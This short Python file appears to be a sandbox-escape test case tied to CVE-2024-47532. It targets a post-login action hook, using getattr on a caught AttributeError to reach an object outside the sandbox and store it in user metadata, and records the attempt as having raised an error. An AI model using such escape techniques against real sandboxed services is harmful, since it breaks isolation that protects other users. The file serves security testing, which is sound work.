# origin: CVE-2024-47532
# technique: the same by getattr
# goal: language
# outcome: RAISED:AttributeError

import string
def on_execute_post_login(event, api):
    try:
        getattr(string, "nope")
    except AttributeError as error:
        api.user.set_app_metadata("escaped", str(getattr(error, "obj")))
